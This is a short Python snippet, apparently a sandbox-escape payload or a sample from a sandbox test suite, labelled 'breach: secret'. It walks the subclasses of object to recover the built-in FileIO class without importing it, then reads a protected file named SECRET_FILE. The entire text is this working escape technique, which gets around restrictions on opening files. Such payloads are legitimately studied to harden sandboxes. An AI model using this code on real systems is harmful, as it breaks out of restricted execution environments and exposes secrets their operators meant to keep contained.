# The class FileIO below the base of io's classes opens the file.
# breach: secret
def below(cls):
    for c in type.__subclasses__(cls):
        yield c
        yield from below(c)
raw = [c for c in below(object) if c.__name__ == "FileIO" and c.__module__ == "_io"][0]
raw(SECRET_FILE).readall()
